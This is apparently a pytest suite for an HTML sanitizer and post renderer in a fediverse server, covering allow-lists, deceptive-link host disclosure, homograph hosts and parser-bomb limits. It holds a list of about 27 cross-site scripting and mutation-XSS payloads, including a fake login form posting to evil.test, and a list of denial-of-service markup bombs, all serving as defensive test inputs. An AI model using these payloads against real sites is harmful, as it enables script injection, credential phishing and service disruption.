"""Typed text and remote markup become safe markup: HX lines, E90-E94, RX-15, RX-16."""

import re
import time
from html.parser import HTMLParser

import pytest

from actors.markup import (
    RAW_LETTERS_MAX,
    SAFE_LETTERS_MAX,
    ResolvedMention,
    clean_html,
    plain_text,
    render,
    render_field,
    render_plain,
)

REL = 'rel="nofollow noopener noreferrer"'
HOME = "https://home.test"

ALLOWED = {
    *("p", "br", "span", "a", "del", "s", "pre", "code", "em", "strong", "b", "i", "u"),
    *("ul", "ol", "li", "blockquote"),
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel", "class"},
    "span": {"class"},
    "p": {"class"},
    "ol": {"start", "reversed"},
    "li": {"value"},
}


class Walker(HTMLParser):
    """Reads markup as a browser would and collects what is in it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    walker = Walker()
    walker.feed(markup)
    return walker.found


def assert_safe(markup: str) -> None:
    """Nothing but the allow-list, whatever came in."""
    for tag, attributes in elements(markup):
        assert tag in ALLOWED, markup
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), markup
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer", markup
            href = attributes.get("href")
            assert href is None or re.match(r"(https?|mailto|xmpp|magnet|gemini):", href), markup
    assert "<!--" not in markup


HOSTILE = {
    "script": "<p>a</p><script>alert(1)</script>",
    "script-in-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1)>word",
    "onclick": '<p onclick="alert(1)">a</p>',
    "onload-svg": "<svg/onload=alert(1)><p>a</p>",
    "javascript": '<a href="javascript:alert(1)">a</a>',
    "javascript-tab": '<a href="java\tscript:alert(1)">a</a>',
    "javascript-entity": '<a href="&#106;avascript&colon;alert(1)">a</a>',
    "javascript-control": '<a href="\x01javascript:alert(1)">a</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "svg-mxss": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math-mxss": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "form": '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
    "style": "<style>*{display:none}</style><p style='position:fixed'>a</p>",
    "base": '<base href="https://evil.test/"><a href="/login">a</a>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test">a',
    "link": '<link rel=stylesheet href="https://evil.test/x.css">a',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>a',
    "object": '<object data="https://evil.test/x.swf"><embed src=x></object>a',
    "id-name": '<p id="composer" name="csrf">a</p>',
    "template": "<template><script>alert(1)</script></template>a",
    "xml": "<?xml-stylesheet href='javascript:alert(1)'?><![CDATA[<script>alert(1)</script>]]>a",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img onerror=alert(1)>",
    "target": '<a href="https://x.test" target="_top" download ping="https://evil.test">x.test</a>',
    "textarea": "<textarea><script>alert(1)</script></textarea><title><img onerror=x></title>",
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
def test_hx1_hostile_bodies_become_the_allow_list(body: str) -> None:
    cleaned = clean_html(body)
    assert_safe(cleaned)
    assert clean_html(cleaned) == cleaned


def test_hx1_more_than_25_bodies_are_tried() -> None:
    assert len(HOSTILE) >= 25


def test_hx1_words_of_scripts_and_styles_are_not_shown() -> None:
    assert clean_html("<script>alert(1)</script><style>p{}</style><p>a</p>") == "<p>a</p>"


@pytest.mark.parametrize(
    "href",
    [
        "/login",
        "//evil.test/x",
        "login",
        "#x",
        "https:\\\\evil.test",
        "https://a b.test",
        "https://",
    ],
)
def test_hx1_a_relative_or_broken_address_is_no_link(href: str) -> None:
    assert "href" not in clean_html(f'<p><a href="{href}">a</a></p>')


def test_e90_elements_and_attributes_of_the_list_are_kept() -> None:
    body = (
        "<p>a<br>b <em>c</em> <strong>d</strong> <b>e</b> <i>f</i> <u>g</u> <del>h</del> "
        "<code>i</code></p><pre>j\n k</pre><blockquote><p>l</p></blockquote>"
        '<ol start="3" reversed=""><li value="9">m</li></ol><ul><li>n</li></ul>'
    )
    assert clean_html(body) == body


@pytest.mark.parametrize("level", range(1, 7))
def test_e90_headings_become_strong_paragraphs(level: int) -> None:
    assert (
        clean_html(f"<h{level}>Title</h{level}><p>a</p>") == "<p><strong>Title</strong></p><p>a</p>"
    )


def test_e90_elements_outside_the_list_leave_their_words() -> None:
    assert clean_html("<div><table><tr><td>a</td></tr></table><p>b</p></div>") == "a<p>b</p>"


def test_e91_classes_of_microformats_and_links_are_kept() -> None:
    body = '<p class="quote-inline">a <span class="h-card p-author">b</span></p>'
    assert clean_html(body) == body
    link = f'<a href="https://x.test/@a" class="u-url mention hashtag" {REL}>@a</a>'
    assert clean_html(link) == link


@pytest.mark.parametrize(
    "css",
    ["fa fa-check verified", "button primary", "post", "vh", "avatar", "header", "hx-on", "H-CARD"],
)
def test_hx12_other_classes_are_dropped(css: str) -> None:
    assert clean_html(f'<span class="{css}">Verified</span>') == "<span>Verified</span>"


def test_hx12_hidden_words_exist_in_links_only() -> None:
    assert clean_html('<span class="invisible">secret</span> a') == "<span>secret</span> a"


def test_e92_other_schemes_become_text() -> None:
    assert clean_html('<a href="ftp://x.test/">a</a>') == f"<a {REL}>a</a>"
    assert 'href="mailto:a@x.test"' in clean_html('<a href="mailto:a@x.test">a@x.test</a>')


# ---------------------------------------------------------------- the real host


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        ('<a href="https://evil.test/x">https://bank.test</a>', "https://bank.test [evil.test]"),
        ('<a href="https://evil.test/x">bank.test</a>', "bank.test [evil.test]"),
        (
            '<a href="https://evil.test/"><span class="invisible">https://evil.test/</span>bank.test</a>',
            "https://evil.test/bank.test [evil.test]",
        ),
        ('<a href="https://evil.test/bank.test">click</a>', "click [evil.test]"),
        ('<a href="https://evil.test"></a>', "[evil.test]"),
        (
            '<a href="https://bank.test.evil.test/x">bank.test</a>',
            "bank.test [bank.test.evil.test]",
        ),
        ('<a href="magnet:?xt=1">bank.test</a>', "bank.test [magnet]"),
    ],
)
def test_hx14_a_link_that_hides_its_host_shows_it(body: str, shown: str) -> None:
    """CVE-2023-36462: what people read tells where the link leads."""
    cleaned = clean_html(body)
    assert plain_text(cleaned) == shown
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "body",
    [
        '<a href="https://x.test/a">https://x.test/a</a>',
        '<a href="https://x.test/a">x.test/a</a>',
        '<a href="https://www.x.test/a">x.test/a</a>',
        '<a href="https://x.test">X.test</a>',
        '<a href="https://x.test/@a" class="u-url mention">@<span>a</span></a>',
        '<a href="https://x.test/@a" class="mention">@a@handle.test</a>',
        '<a href="https://x.test/tags/b" class="mention hashtag">#<span>b</span></a>',
    ],
)
def test_hx14_a_truthful_link_stays_as_it_is(body: str) -> None:
    assert "[" not in clean_html(body)


def test_hx14_mastodons_cut_links_are_truthful() -> None:
    body = (
        '<a href="https://x.test/a/long/path"><span class="invisible">https://</span>'
        '<span class="ellipsis">x.test/a/lo</span><span class="invisible">ng/path</span></a>'
    )
    assert "[" not in clean_html(body)
    assert plain_text(clean_html(body)) == "https://x.test/a/long/path"


def test_or22_names_in_front_of_a_host_are_no_link() -> None:
    assert "href" not in clean_html('<a href="https://bank.test@evil.test/">a</a>')


def test_hx14_a_host_in_letters_that_deceive_is_told_in_ascii() -> None:
    cyrillic = "https://\u0430\u0440\u0440\u04cf\u0435.com/x"
    cleaned = clean_html(f'<a href="{cyrillic}">{cyrillic}</a>')
    assert 'href="https://xn--80ak6aa92e.com/x"' in cleaned
    assert cleaned.endswith(" [xn--80ak6aa92e.com]</a>")


# ---------------------------------------------------------------- bounds


BOMBS = {
    "reopened": "<p>" + "".join(f"<b id={i}>" for i in range(2500)) + "<p>x" * 3000,
    "reopened-by-links": "<a><div>" * 8000,
    "just-below": "<p>" + "".join(f"<b id={i}>" for i in range(345)) + "<p>x" * 345,
    "deep": "<blockquote>" * 5000,
    "lists": "<ul><li>" * 8000,
    "angle": "<" * RAW_LETTERS_MAX,
    "ampersands": "&" * RAW_LETTERS_MAX,
    "attributes": "<a " + "x=y " * 16000 + ">",
    "quotes": "<a '" * 16000,
    "comments": "<!--" * 16000,
    "tables": "<table>" * 9000,
    "at": "@" * RAW_LETTERS_MAX,
    "handles": "@a" * 30000,
    "hashes": "#" * RAW_LETTERS_MAX,
    "links": "https://" * 8000,
    "brackets": "https://a.test/" + ")" * 60000,
    "hosts": "@a@" + "a." * 30000,
    "entities": "<p>" + "&lt;" * 16000,
    "headings": "<h1>" * 16000,
}


@pytest.mark.parametrize("body", BOMBS.values(), ids=BOMBS)
def test_rx16_html_bombs_take_less_than_a_second_and_stay_small(body: str) -> None:
    started = time.process_time()
    cleaned = clean_html(body)
    plain_text(cleaned)
    assert time.process_time() - started < 1
    assert len(cleaned) < SAFE_LETTERS_MAX * 2
    assert_safe(cleaned)


def test_rx15_content_is_cut_at_64_ki() -> None:
    assert len(clean_html("<p>" + "a" * 1_000_000)) < RAW_LETTERS_MAX + 10


def test_rx8_nul_is_dropped() -> None:
    assert clean_html("<p>a\x00b</p>") == "<p>ab</p>"
    assert render_plain("a\x00b\x07c") == "<p>abc</p>"


def test_hx13_piles_of_accents_are_cut() -> None:
    assert clean_html("<p>Z" + "\u0301" * 10_000 + "</p>") == "<p>Z" + "\u0301" * 4 + "</p>"
    assert render("Z" + "\u0301" * 500, {}, HOME) == "<p>Z" + "\u0301" * 4 + "</p>"


# ---------------------------------------------------------------- plain text


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>a<br>b</p><p>c &amp; d</p>", "a\nb\nc & d"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("a &lt;b&gt; c", "a <b> c"),
        ("no markup, 1 < 2", "no markup, 1 < 2"),
        ("<script>x</script><p>a</p>", "a"),
        ("<h1>T</h1><p>a</p>", "T\na"),
        ("", ""),
    ],
)
def test_hx2_plain_text_of_markup(markup: str, text: str) -> None:
    assert plain_text(markup) == text


def test_e100_content_without_markup_becomes_paragraphs() -> None:
    assert (
        clean_html("one &amp; two\n\nthree\nfour <3")
        == "<p>one &amp; two</p><p>three<br>four &lt;3</p>"
    )


# ---------------------------------------------------------------- what people type


MENTIONS = {
    "alice": ResolvedMention("alice", f"{HOME}/@alice"),
    "bob@far.test": ResolvedMention("bob", "https://far.test/@bob"),
}


def test_e93_mentions_link_to_the_profile_page() -> None:
    assert render("hi @Alice", MENTIONS, HOME) == (
        '<p>hi <span class="h-card"><a href="https://home.test/@alice" class="u-url mention">'
        "@<span>alice</span></a></span></p>"
    )
    assert 'href="https://far.test/@bob"' in render("@bob@far.test!", MENTIONS, HOME)


def test_e93_an_unknown_handle_stays_text() -> None:
    assert render("@nobody @x@y.test", MENTIONS, HOME) == "<p>@nobody @x@y.test</p>"


def test_e94_hashtags_are_shown_as_typed_and_linked_folded() -> None:
    assert render("#Été", MENTIONS, HOME) == (
        '<p><a href="https://home.test/tags/%C3%A9t%C3%A9" class="mention hashtag" rel="tag">'
        "#<span>Été</span></a></p>"
    )


def test_paragraphs_and_line_breaks() -> None:
    assert render("a\r\nb\n\n\n c", {}, HOME) == "<p>a<br>b</p><p>c</p>"
    assert render("  \n ", {}, HOME) == ""


def test_hx6_typed_markup_is_escaped() -> None:
    typed = "<script>alert('1')</script> & \"x\" {{7*7}} %s {0.__class__}"
    assert render(typed, {}, HOME) == (
        "<p>&lt;script&gt;alert(&#x27;1&#x27;)&lt;/script&gt; &amp; &quot;x&quot; "
        "{{7*7}} %s {0.__class__}</p>"
    )


def test_links_are_cut_but_never_their_host() -> None:
    long_host = "a." * 20 + "example.test"
    markup = render(f"https://{long_host}/path", {}, HOME)
    assert f'<span class="ellipsis">{long_host}</span>' in markup
    assert '<span class="invisible">/path</span>' in markup


def test_links_lose_scheme_and_www() -> None:
    assert render("https://www.example.test/a?b=1&c#d", {}, HOME) == (
        f'<p><a href="https://www.example.test/a?b=1&amp;c#d" {REL}>'
        '<span class="invisible">https://www.</span><span>example.test/a?b=1&amp;c#d</span></a></p>'
    )


def test_hx14_typed_links_with_a_name_before_the_host_stay_text() -> None:
    assert "<a" not in render("https://bank.test@evil.test/", {}, HOME)


def test_what_we_render_passes_our_own_cleaner() -> None:
    typed = "hi @alice @bob@far.test #Tag https://www.example.test/a/very/long/path/indeed/it/is"
    markup = render(typed, MENTIONS, HOME)
    assert_safe(clean_html(markup))
    assert plain_text(clean_html(markup)).startswith(
        "hi @alice @bob #Tag https://www.example.test/"
    )
    assert "[" not in clean_html(markup)


def test_a_field_links_with_rel_me() -> None:
    assert render_field("https://x.test\n/a").startswith(
        '<a href="https://x.test" rel="me nofollow'
    )
    assert render_field("just <b>text</b>") == "just &lt;b&gt;text&lt;/b&gt;"
